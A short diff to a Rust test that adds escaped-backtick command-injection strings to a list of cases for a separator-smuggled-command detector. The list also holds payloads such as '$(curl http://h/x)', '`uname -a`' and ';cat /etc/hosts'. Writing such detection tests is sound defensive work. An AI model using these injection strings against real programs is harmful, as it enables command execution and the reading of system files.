@@ -51,6 +51,8 @@ fn commands_behind_separators_are_found() {
         "a;sleep 10",
         "`uname -a`",
         "x `5` `id`",
+        r"\`a `id`",
+        r"\\`a\\` `id`",
         "a\n```\n`id`\n;cat /etc/hosts",
         "$(curl http://h/x)",
         "a\nping -c 3 10.0.0.1",
